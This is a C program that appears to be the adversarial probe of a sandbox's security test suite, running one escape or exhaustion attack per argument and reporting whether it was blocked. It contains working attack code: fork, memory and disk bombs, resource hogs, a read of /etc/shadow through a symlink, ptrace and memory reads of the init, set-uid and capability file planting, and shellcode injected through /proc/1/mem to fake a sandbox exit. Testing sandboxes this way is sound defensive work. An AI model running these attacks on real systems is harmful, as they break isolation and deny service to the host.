/*
 * The adversarial battery's attacker: one static binary, one attack per
 * argv[1], run inside a real cordon sandbox by the __test__/security tests.
 *
 * Every attack prints one line to stdout (which the sandbox routes to the
 * `stderr` stream):  RESULT <attack> <blocked|open> <detail>
 * "open" means the attack worked; the tests assert "blocked" AND check the
 * host afterwards. Attacks that must kill or exhaust themselves (memory
 * bomb, CPU burn) print progress and the test judges the outcome instead.
 *
 * Compiled at test time: cc -static -O1 -o probe probe.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/inotify.h>
#include <mqueue.h>
#include <sys/xattr.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <stddef.h>
#include <unistd.h>

static int report(const char *attack, int blocked, const char *detail) {
    printf("RESULT %s %s %s\n", attack, blocked ? "blocked" : "open", detail);
    fflush(stdout);
    return 0;
}

static int errno_report(const char *attack, long rc) {
    char detail[64];
    snprintf(detail, sizeof detail, "%s", rc < 0 ? strerror(errno) : "succeeded");
    return report(attack, rc < 0, detail);
}

static int socket_family(const char *attack, int family, int type) {
    return errno_report(attack, socket(family, type, 0));
}

/* connect(AF_INET) to host 127.0.0.1:<port> where the test listens. */
static int connect_loopback(const char *port) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) return errno_report("connect-host-loopback", fd);
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return errno_report("connect-host-loopback", connect(fd, (void *)&addr, sizeof addr));
}

/* connect to an abstract unix socket the test opened on the host. */
static int connect_abstract(const char *name) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) return errno_report("connect-abstract-unix", fd);
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    size_t len = strlen(name);
    memcpy(addr.sun_path + 1, name, len);
    socklen_t size = offsetof(struct sockaddr_un, sun_path) + 1 + len;
    return errno_report("connect-abstract-unix", connect(fd, (void *)&addr, size));
}

/* DNS: no resolver config, and no way to send a UDP query to a stub. */
static int dns(void) {
    int conf = open("/etc/resolv.conf", O_RDONLY);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (conf >= 0 || fd >= 0) return report("dns", 0, conf >= 0 ? "resolv.conf readable" : "udp socket");
    return report("dns", 1, "no resolv.conf, no udp socket");
}

static int read_path(const char *attack, const char *path) {
    char buf[64];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return errno_report(attack, fd);
    return errno_report(attack, read(fd, buf, sizeof buf));
}

static int write_path(const char *attack, const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) return errno_report(attack, fd);
    return errno_report(attack, write(fd, "x", 1));
}

/* List a directory: "open" if it exists and has entries. */
static int list_dir(const char *path) {
    DIR *dir = opendir(path);
    if (!dir) return errno_report(path, -1);
    int entries = 0;
    for (struct dirent *e; (e = readdir(dir));) entries += strcmp(e->d_name, ".") && strcmp(e->d_name, "..");
    char detail[64];
    snprintf(detail, sizeof detail, "entries=%d", entries);
    return report(path, entries == 0, detail);
}

/* Print a file's first 4 KiB with NULs as spaces, for the host to inspect. */
static int dump(const char *path) {
    char buf[4096];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return errno_report(path, fd);
    ssize_t n = read(fd, buf, sizeof buf - 1);
    for (ssize_t i = 0; i < n; i++) if (buf[i] == 0 || buf[i] == '\n') buf[i] = ' ';
    buf[n > 0 ? n : 0] = 0;
    printf("DUMP %s %s\n", path, buf);
    fflush(stdout);
    return 0;
}

static int symlink_escape(void) {
    unlink("/tmp/escape");
    if (symlink("/etc/shadow", "/tmp/escape") != 0) return errno_report("symlink-escape", -1);
    return read_path("symlink-escape", "/tmp/escape");
}

/* Is a given host pid visible (the test passes its own pid)? */
static int see_host_pid(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
    char buf[256] = {0};
    int fd = open(path, O_RDONLY);
    if (fd < 0) return report("see-host-pid", 1, "not in this pid namespace");
    ssize_t n = read(fd, buf, sizeof buf - 1);
    int host = n > 0 && strstr(buf, "node") != NULL;
    return report("see-host-pid", !host, host ? "host node process visible" : "same pid, not the host's");
}

static int signal_host_pid(const char *pid) {
    return errno_report("signal-host-pid", kill(atoi(pid), SIGKILL) == 0 ? 0 : -1);
}

/* kill(-1): every process we may signal. Blocked if we survive it alone. */
static int kill_all(void) {
    signal(SIGTERM, SIG_IGN);
    int rc = kill(-1, SIGKILL);
    return report("kill-minus-one", 1, rc == 0 ? "sent within the sandbox only" : strerror(errno));
}

static int ptrace_parent(void) {
    return errno_report("ptrace", ptrace(PTRACE_ATTACH, getppid(), 0, 0));
}

/* setsid + double fork: a grandchild that tries to outlive stop(). */
static int escape_stop(const char *marker) {
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            char *argv[] = {"/usr/bin/sleep", (char *)marker, NULL};
            signal(SIGTERM, SIG_IGN);
            execv(argv[0], argv);
            _exit(127);
        }
        _exit(0);
    }
    wait(NULL);
    report("outlive-stop", 1, "grandchild started; the host checks it is gone");
    for (;;) pause();
}

static int fork_bomb(void) {
    int forks = 0;
    for (;;) {
        pid_t pid = fork();
        if (pid == 0) { pause(); _exit(0); }
        if (pid < 0) break;
        if (++forks > 100000) break;
    }
    char detail[64];
    snprintf(detail, sizeof detail, "forks=%d stopped by %s", forks, strerror(errno));
    report("fork-bomb", forks < 100000, detail);
    kill(0, SIGKILL);
    return 0;
}

static int memory_bomb(void) {
    size_t chunk = 16 << 20, total = 0;
    for (;;) {
        char *p = mmap(NULL, chunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED) break;
        memset(p, 1, chunk);
        total += chunk;
        if (total > ((size_t)64 << 30)) break;
    }
    char detail[64];
    snprintf(detail, sizeof detail, "touched=%zuMiB then %s", total >> 20, strerror(errno));
    return report("memory-bomb", total < ((size_t)64 << 30), detail);
}

/* Four processes, each within its own address-space limit, together far
 * above the sandbox's memory ceiling: only a whole-tree limit stops them. */
static int tree_memory_bomb(const char *megabytes) {
    size_t each = (size_t)atoi(megabytes) << 20;
    for (int i = 0; i < 4; i++) {
        if (fork() == 0) {
            char *p = mmap(NULL, each, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (p == MAP_FAILED) _exit(3);
            memset(p, 1, each);
            sleep(2); /* hold it while the siblings allocate, then leave */
            _exit(0);
        }
    }
    int killed = 0, status;
    while (wait(&status) > 0) killed += WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL;
    char detail[64];
    snprintf(detail, sizeof detail, "children_killed=%d", killed);
    return report("tree-memory-bomb", killed > 0, detail);
}

static __attribute__((noreturn)) void cpu_burn(void) {
    report("cpu-burn", 1, "spinning; the deadline must end it");
    for (volatile unsigned long i = 0;; i++) {}
}

static int disk_fill(void) {
    signal(SIGXFSZ, SIG_IGN);
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    unsigned long long total = 0;
    for (int file = 0; file < 64; file++) {
        char path[64];
        snprintf(path, sizeof path, "/tmp/fill-%d", file);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) break;
        ssize_t n;
        while ((n = write(fd, block, sizeof block)) > 0) total += n;
        int full = errno == ENOSPC;
        close(fd);
        if (full) break;
    }
    char detail[96];
    snprintf(detail, sizeof detail, "wrote=%lluMiB then %s", total >> 20, strerror(errno));
    return report("disk-fill", total < (64ULL << 30), detail);
}

static int fd_exhaustion(void) {
    int count = 0;
    while (open("/dev/null", O_RDONLY) >= 0) count++;
    char detail[64];
    snprintf(detail, sizeof detail, "opened=%d then %s", count, strerror(errno));
    return report("fd-exhaustion", errno == EMFILE, detail);
}

static int flood(int fd, const char *megabytes) {
    static char block[1 << 16];
    memset(block, 'y', sizeof block);
    long long left = atoll(megabytes) << 20;
    while (left > 0) {
        ssize_t n = write(fd, block, sizeof block);
        if (n <= 0) break;
        left -= n;
    }
    return 0;
}

static int identity(void) {
    char line[256], caps[64] = "", nnp[64] = "", seccomp[64] = "";
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof line, status)) {
        if (!strncmp(line, "CapEff:", 7)) sscanf(line + 7, "%63s", caps);
        if (!strncmp(line, "NoNewPrivs:", 11)) sscanf(line + 11, "%63s", nnp);
        if (!strncmp(line, "Seccomp:", 8)) sscanf(line + 8, "%63s", seccomp);
    }
    char detail[256];
    snprintf(detail, sizeof detail, "caps=%s no_new_privs=%s seccomp=%s", caps, nnp, seccomp);
    int ok = !strcmp(caps, "0000000000000000") && !strcmp(nnp, "1") && !strcmp(seccomp, "2");
    return report("identity", ok, detail);
}

static int new_userns(void) {
    return errno_report("new-user-namespace", unshare(CLONE_NEWUSER));
}

/* The init's eventfd: bwrap's outer process takes "value - 1" written there
 * as the program's exit code and exits with it. */
static int init_eventfd(void) {
    int evfd = -1;
    DIR *dir = opendir("/proc/1/fd");
    if (!dir) return -1;
    for (struct dirent *e; (e = readdir(dir));) {
        char link[300], target[128] = {0};
        snprintf(link, sizeof link, "/proc/1/fd/%s", e->d_name);
        if (readlink(link, target, sizeof target - 1) > 0 && strstr(target, "eventfd")) evfd = atoi(e->d_name);
    }
    closedir(dir);
    return evfd;
}

/* Rewrites the namespace init (bwrap's pid 1) through /proc/1/mem: at the
 * pc where its wait() returns, code that clears its parent-death signal,
 * writes "exited 0" to the eventfd bwrap's outer process waits on, then
 * pauses forever. A reparented orphan's exit wakes it. bwrap then exits 0
 * while the init and this program live on. `mode` "closed" ends this
 * program's streams (so the host's readers see EOF); "open" keeps them. */
static int fake_exit(const char *mode) {
#if defined(__x86_64__)
    int evfd = init_eventfd();
    if (evfd < 0) return report("fake-exit", 1, "no eventfd readable in the init");
    unsigned long nr, arg[6], sp, pc;
    int fields = 0;
    /* Until the init is blocked in its wait() ("running" while it starts up). */
    for (int tries = 0; tries < 500 && fields != 9; tries++) {
        FILE *sys = fopen("/proc/1/syscall", "r");
        if (!sys) return errno_report("fake-exit", -1);
        fields = fscanf(sys, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &arg[0], &arg[1], &arg[2], &arg[3], &arg[4], &arg[5], &sp, &pc);
        fclose(sys);
        if (fields != 9) usleep(10000);
    }
    if (fields != 9) return report("fake-exit", 1, "the init is not blocked in a call");
    unsigned char code[] = {
        0xbf, 0x01, 0, 0, 0,          /* mov edi, PR_SET_PDEATHSIG */
        0x31, 0xf6,                   /* xor esi, esi */
        0xb8, 0x9d, 0, 0, 0,          /* mov eax, SYS_prctl */
        0x0f, 0x05,                   /* syscall */
        0x6a, 0x01,                   /* push 1 ("exit code 0") */
        0xbf, 0, 0, 0, 0,             /* mov edi, evfd (patched) */
        0x48, 0x89, 0xe6,             /* mov rsi, rsp */
        0xba, 0x08, 0, 0, 0,          /* mov edx, 8 */
        0xb8, 0x01, 0, 0, 0,          /* mov eax, SYS_write */
        0x0f, 0x05,                   /* syscall */
        0xb8, 0x22, 0, 0, 0,          /* loop: mov eax, SYS_pause */
        0x0f, 0x05,                   /* syscall */
        0xeb, 0xf7,                   /* jmp loop */
    };
    memcpy(code + 17, &evfd, 4);
    int mem = open("/proc/1/mem", O_RDWR);
    if (mem < 0) return errno_report("fake-exit", -1);
    if (pwrite(mem, code, sizeof code, (off_t)pc) != (ssize_t)sizeof code) return errno_report("fake-exit", -1);
    close(mem);
    pid_t middle = fork();
    if (middle == 0) {
        if (fork() == 0) { usleep(100000); _exit(0); } /* orphaned to the init, then exits */
        _exit(0);
    }
    waitpid(middle, NULL, 0);
    report("fake-exit", 1, "init rewritten; the host checks that nothing outlives wait()");
    if (!strcmp(mode, "closed")) {
        int null = open("/dev/null", O_RDWR);
        dup2(null, 1);
        dup2(null, 2);
        close(3);
    }
    for (;;) pause();
#else
    (void)mode;
    return report("fake-exit", 1, "no shellcode for this architecture");
#endif
}

/* Take the init's eventfd with pidfd_getfd: the reach of ptrace without it. */
static int pidfd_getfd_init(void) {
    int evfd = init_eventfd();
    if (evfd < 0) return report("pidfd-getfd", 1, "no eventfd readable in the init");
    int pidfd = syscall(SYS_pidfd_open, 1, 0);
    if (pidfd < 0) return errno_report("pidfd-getfd", -1);
    return errno_report("pidfd-getfd", syscall(SYS_pidfd_getfd, pidfd, evfd, 0));
}

/* Read the init's memory with process_vm_readv (its stack, from /proc). */
static int vm_read_init(void) {
    char buf[16];
    unsigned long nr, arg[6], sp = 0, pc;
    /* The file says "running" while the init is on a CPU (it wakes for every
     * child that exits), so read it until the init is blocked again. */
    for (int tries = 0; !sp && tries < 200; tries++) {
        FILE *sys = fopen("/proc/1/syscall", "r");
        if (!sys) break;
        if (fscanf(sys, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &arg[0], &arg[1], &arg[2], &arg[3], &arg[4], &arg[5], &sp, &pc) != 9) sp = 0;
        fclose(sys);
        if (!sp) usleep(5000);
    }
    if (!sp) return report("process-vm-readv", 1, "no stack pointer of the init");
    struct iovec local = {buf, sizeof buf}, remote = {(void *)sp, sizeof buf};
    return errno_report("process-vm-readv", syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0));
}

/* Leaves the hardest tree it can for the host to remove, in the current
 * directory: a 000-mode and a 0555 directory with content, a FIFO, a bound
 * socket, symlinks to / and .., a hardlink, 1000 files side by side, then
 * `mkdir d; chdir d` `levels` times. */
static int litter(const char *levels) {
    mkdir("locked", 0755); mkdir("locked/inner", 0755);
    close(open("locked/inner/file", O_WRONLY | O_CREAT, 0644));
    chmod("locked", 0);
    mkdir("readonly", 0755); mkdir("readonly/sub", 0755);
    close(open("readonly/sub/file", O_WRONLY | O_CREAT, 0644));
    chmod("readonly/sub", 0555); chmod("readonly", 0555);
    mkfifo("fifo", 0600);
    int sock = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un addr = {.sun_family = AF_UNIX, .sun_path = "sock"};
    bind(sock, (void *)&addr, sizeof addr);
    symlink("/", "to-root"); symlink("..", "to-parent");
    close(open("file", O_WRONLY | O_CREAT, 0644)); link("file", "hardlink");
    mkdir("wide", 0755);
    for (int i = 0; i < 1000; i++) {
        char name[32];
        snprintf(name, sizeof name, "wide/%d", i);
        close(open(name, O_WRONLY | O_CREAT, 0644));
    }
    int n = atoi(levels), made = 0;
    for (; made < n; made++) if (mkdir("d", 0755) != 0 || chdir("d") != 0) break;
    char detail[64];
    snprintf(detail, sizeof detail, "nested=%d", made);
    return report("litter", 1, detail); /* the host judges its teardown */
}

/* Fill each directory with 1 MiB writes until an error (at most 512 MiB
 * each, far beyond any bound cordon plans): one RESULT per directory,
 * blocked iff the error was ENOSPC. */
static int fill_dirs(int count, char **dirs) {
    signal(SIGXFSZ, SIG_IGN);
    static char block[1 << 20];
    memset(block, 'z', sizeof block);
    for (int i = 0; i < count; i++) {
        unsigned long long total = 0;
        int err = 0;
        for (int file = 0; !err && total < (512ULL << 20); file++) {
            char path[512];
            snprintf(path, sizeof path, "%s/fill-%d", dirs[i], file);
            int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd < 0) { err = errno; break; }
            for (int mib = 0; mib < 32 && total < (512ULL << 20); mib++) {
                ssize_t n = write(fd, block, sizeof block);
                if (n < 0) { err = errno; break; }
                total += n;
            }
            close(fd);
        }
        char attack[300], detail[128];
        snprintf(attack, sizeof attack, "fill:%s", dirs[i]);
        snprintf(detail, sizeof detail, "wrote=%lluMiB then %s", total >> 20, err ? strerror(err) : "no error");
        report(attack, err == ENOSPC, detail);
    }
    return 0;
}

/* Plant set-uid/set-gid files in `dir` (a host-visible workspace) by every
 * call that sets a mode. Blocked if each call failed and no file there has
 * a set-id bit; a plain chmod 0755 must still work (the filter is narrow). */
static int setid_files(const char *dir) {
    char path[512], detail[512] = "", copy[512];
    int worked = 0;
    snprintf(copy, sizeof copy, "%s/copy", dir);
    int in = open("/proc/self/exe", O_RDONLY), out = open(copy, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    char buf[65536];
    for (ssize_t n; in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0;) if (write(out, buf, n) != n) break;
#define TRY(name, call) do { errno = 0; long rc_ = (call); if (rc_ >= 0) { worked++; strncat(detail, name "=ok ", sizeof detail - strlen(detail) - 1); } \
    else { char e_[48]; snprintf(e_, sizeof e_, "%s=%d ", name, errno); strncat(detail, e_, sizeof detail - strlen(detail) - 1); } } while (0)
    TRY("chmod", chmod(copy, 06755));
    TRY("fchmod", fchmod(out, 04755));
    TRY("fchmodat", fchmodat(AT_FDCWD, copy, 02755, 0));
    TRY("fchmodat2", syscall(452, AT_FDCWD, copy, 06755, 0));
    snprintf(path, sizeof path, "%s/open", dir);
    TRY("open", syscall(SYS_open, path, O_WRONLY | O_CREAT, 06755));
    snprintf(path, sizeof path, "%s/openat", dir);
    TRY("openat", openat(AT_FDCWD, path, O_WRONLY | O_CREAT, 04755));
    snprintf(path, sizeof path, "%s/creat", dir);
    TRY("creat", syscall(SYS_creat, path, 02755));
    snprintf(path, sizeof path, "%s/mknod", dir);
    TRY("mknod", mknod(path, S_IFREG | 06755, 0));
    snprintf(path, sizeof path, "%s/mkdir", dir);
    TRY("mkdir", mkdir(path, 02755));
    /* openat2(dirfd, path, struct open_how {flags, mode, resolve}, size). */
    unsigned long long how[3] = {O_WRONLY | O_CREAT, 06755, 0};
    snprintf(path, sizeof path, "%s/openat2", dir);
    TRY("openat2", syscall(SYS_openat2, AT_FDCWD, path, how, sizeof how));
    /* Whatever the calls said, nothing in dir may carry a set-id bit. */
    DIR *d = opendir(dir);
    for (struct dirent *e; d && (e = readdir(d));) {
        struct stat st;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (lstat(path, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID))) {
            worked++;
            strncat(detail, "setid-file ", sizeof detail - strlen(detail) - 1);
        }
    }
    int plain = chmod(copy, 0755);
    strncat(detail, plain == 0 ? "plain-chmod=ok" : "plain-chmod=failed", sizeof detail - strlen(detail) - 1);
    return report("setid-files", worked == 0 && plain == 0, detail);
}

/* Other privileged files a host user could use: file capabilities
 * (security.capability, v2: cap_setuid permitted+effective) and device
 * nodes (a block or char device readable by anyone). Blocked if neither can
 * be made and the file carries no capability afterwards. */
static int privileged_files(const char *dir) {
    char file[512], node[512], detail[256];
    snprintf(file, sizeof file, "%s/capfile", dir);
    snprintf(node, sizeof node, "%s/mem", dir);
    int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd >= 0) close(fd);
    /* struct vfs_cap_data v2: magic_etc, {permitted, inheritable} x 2 */
    unsigned int cap[5] = {0x02000000 | 1 /* VFS_CAP_REVISION_2 | effective */, 1u << 7 /* CAP_SETUID */, 0, 0, 0};
    int xattr = setxattr(file, "security.capability", cap, sizeof cap, 0);
    int xattr_errno = errno;
    char back[64];
    long present = getxattr(file, "security.capability", back, sizeof back);
    int dev = mknod(node, S_IFCHR | 0666, makedev(1, 1)); /* /dev/mem */
    int dev_errno = errno;
    snprintf(detail, sizeof detail, "setxattr=%s getxattr=%s mknod-chr=%s",
             xattr == 0 ? "ok" : strerror(xattr_errno), present >= 0 ? "present" : "absent",
             dev == 0 ? "ok" : strerror(dev_errno));
    return report("privileged-files", fd >= 0 && xattr != 0 && present < 0 && dev != 0, detail);
}

/* Every mount in the sandbox is nosuid (a set-id file bound in from the host
 * would not raise privileges). */
static int mounts_nosuid(void) {
    FILE *f = fopen("/proc/self/mountinfo", "r");
    char line[1024];
    int mounts = 0, suid = 0;
    char first[256] = "";
    while (f && fgets(line, sizeof line, f)) {
        mounts++;
        /* field 6 holds the per-mount options */
        char *p = line;
        for (int field = 0; field < 5 && p; field++) p = strchr(p + 1, ' ');
        char options[256] = "";
        if (p) sscanf(p + 1, "%255s", options);
        if (!strstr(options, "nosuid")) {
            suid++;
            if (!first[0]) snprintf(first, sizeof first, "%.200s", line);
        }
    }
    char detail[320];
    snprintf(detail, sizeof detail, "mounts=%d without-nosuid=%d %s", mounts, suid, first);
    for (char *c = detail; *c; c++) if (*c == '\n') *c = ' ';
    return report("mounts-nosuid", f && mounts > 0 && suid == 0, detail);
}

/* Take every inotify instance this uid may have, report, then hold them. */
static __attribute__((noreturn)) void inotify_hog(void) {
    int held = 0;
    while (inotify_init1(IN_CLOEXEC) >= 0) held++;
    char detail[64];
    snprintf(detail, sizeof detail, "held=%d then %s", held, strerror(errno));
    report("inotify-hog", 1, detail);
    for (;;) pause();
}

/* POSIX message queues: take the uid's whole RLIMIT_MSGQUEUE byte quota
 * (queues are per ipc namespace, the byte quota per host uid), then hold. */
static __attribute__((noreturn)) void mqueue_hog(void) {
    struct mq_attr attr = {.mq_maxmsg = 10, .mq_msgsize = 8192};
    int held = 0;
    for (; held < 10000; held++) {
        char name[32];
        snprintf(name, sizeof name, "/hog-%d", held);
        if (mq_open(name, O_CREAT | O_RDWR, 0600, &attr) < 0) break;
    }
    char detail[64];
    snprintf(detail, sizeof detail, "held=%d then %s", held, strerror(errno));
    report("mqueue-hog", 1, detail);
    for (;;) pause();
}

/* Pipe buffer pages are counted per host uid (fs.pipe-user-pages-soft):
 * past the soft limit every new pipe of that uid gets one page instead of
 * sixteen. Ten children each fill their descriptor table with pipes, then
 * report whether their last pipe was shrunk; the hog then holds them. */
static __attribute__((noreturn)) void pipe_hog(void) {
    int status[2];
    if (pipe(status) != 0) { report("pipe-hog", 0, "no status pipe"); for (;;) pause(); }
    for (int child = 0; child < 10; child++) {
        if (fork() == 0) {
            int fds[2], size = 0, pipes = 0;
            while (pipe(fds) == 0) { size = fcntl(fds[1], F_GETPIPE_SZ); pipes++; }
            char verdict = size > 0 && size < 65536 ? 'r' : 'f';
            if (write(status[1], &verdict, 1) != 1) _exit(1);
            for (;;) pause();
        }
    }
    int reduced = 0;
    for (int i = 0; i < 10; i++) {
        char verdict;
        if (read(status[0], &verdict, 1) != 1) break;
        reduced += verdict == 'r';
    }
    char detail[64];
    snprintf(detail, sizeof detail, "children_with_shrunk_pipes=%d", reduced);
    report("pipe-hog", 1, detail);
    for (;;) pause();
}

/* Starvation by a neighbour is blocked when a new pipe has its full size. */
static int pipe_available(void) {
    int fds[2];
    int size = pipe(fds) == 0 ? fcntl(fds[1], F_GETPIPE_SZ) : -1;
    char detail[64];
    snprintf(detail, sizeof detail, "pipe_size=%d", size);
    return report("pipe-available", size >= 65536, detail);
}

int main(int argc, char **argv) {
    const char *a = argc > 1 ? argv[1] : "";
    const char *arg = argc > 2 ? argv[2] : "";
    if (!strcmp(a, "socket-inet")) return socket_family(a, AF_INET, SOCK_STREAM);
    if (!strcmp(a, "socket-inet6")) return socket_family(a, AF_INET6, SOCK_STREAM);
    if (!strcmp(a, "socket-netlink")) return socket_family(a, AF_NETLINK, SOCK_RAW);
    if (!strcmp(a, "socket-packet")) return socket_family(a, AF_PACKET, SOCK_RAW);
    if (!strcmp(a, "connect-host-loopback")) return connect_loopback(arg);
    if (!strcmp(a, "connect-abstract-unix")) return connect_abstract(arg);
    if (!strcmp(a, "dns")) return dns();
    if (!strcmp(a, "read")) return read_path(arg, arg);
    if (!strcmp(a, "write")) return write_path(arg, arg);
    if (!strcmp(a, "symlink-escape")) return symlink_escape();
    if (!strcmp(a, "see-host-pid")) return see_host_pid(arg);
    if (!strcmp(a, "signal-host-pid")) return signal_host_pid(arg);
    if (!strcmp(a, "kill-minus-one")) return kill_all();
    if (!strcmp(a, "ptrace")) return ptrace_parent();
    if (!strcmp(a, "outlive-stop")) return escape_stop(arg);
    if (!strcmp(a, "fork-bomb")) return fork_bomb();
    if (!strcmp(a, "memory-bomb")) return memory_bomb();
    if (!strcmp(a, "tree-memory-bomb")) return tree_memory_bomb(arg);
    if (!strcmp(a, "cpu-burn")) cpu_burn();
    if (!strcmp(a, "disk-fill")) return disk_fill();
    if (!strcmp(a, "fd-exhaustion")) return fd_exhaustion();
    if (!strcmp(a, "flood-stdout")) return flood(1, arg);
    if (!strcmp(a, "flood-protocol")) return flood(3, arg);
    if (!strcmp(a, "identity")) return identity();
    if (!strcmp(a, "new-user-namespace")) return new_userns();
    if (!strcmp(a, "list")) return list_dir(arg);
    if (!strcmp(a, "setid-files")) return setid_files(arg);
    if (!strcmp(a, "fill")) return fill_dirs(argc - 2, argv + 2);
    if (!strcmp(a, "mounts-nosuid")) return mounts_nosuid();
    if (!strcmp(a, "privileged-files")) return privileged_files(arg);
    if (!strcmp(a, "inotify-hog")) inotify_hog();
    if (!strcmp(a, "mqueue-hog")) mqueue_hog();
    if (!strcmp(a, "pipe-hog")) pipe_hog();
    if (!strcmp(a, "pipe-available")) return pipe_available();
    /* Starvation by a neighbour is blocked when this sandbox still gets one. */
    if (!strcmp(a, "inotify-available")) {
        int fd = inotify_init1(IN_CLOEXEC);
        return report("inotify-available", fd >= 0, fd >= 0 ? "got an instance" : strerror(errno));
    }
    if (!strcmp(a, "dump")) return dump(arg);
    if (!strcmp(a, "dump-then-hang")) { dump(arg); for (;;) pause(); }
    if (!strcmp(a, "pidfd-getfd")) return pidfd_getfd_init();
    if (!strcmp(a, "process-vm-readv")) return vm_read_init();
    if (!strcmp(a, "litter")) { litter(arg); if (argc > 3) for (;;) pause(); return 0; }
    if (!strcmp(a, "fake-exit")) return fake_exit(arg);
    if (!strcmp(a, "hang")) { report("hang", 1, "started"); for (;;) pause(); }
    if (!strcmp(a, "write-then-hang")) { write_path(arg, arg); for (;;) pause(); }
    if (!strcmp(a, "exit")) return atoi(arg);
    if (!strcmp(a, "crash")) { raise(SIGSEGV); return 1; }
    if (!strcmp(a, "frame")) { dprintf(3, "{\"type\":\"done\",\"n\":%s}\n", arg); return 0; }
    fprintf(stderr, "unknown attack %s\n", a);
    return 2;
}
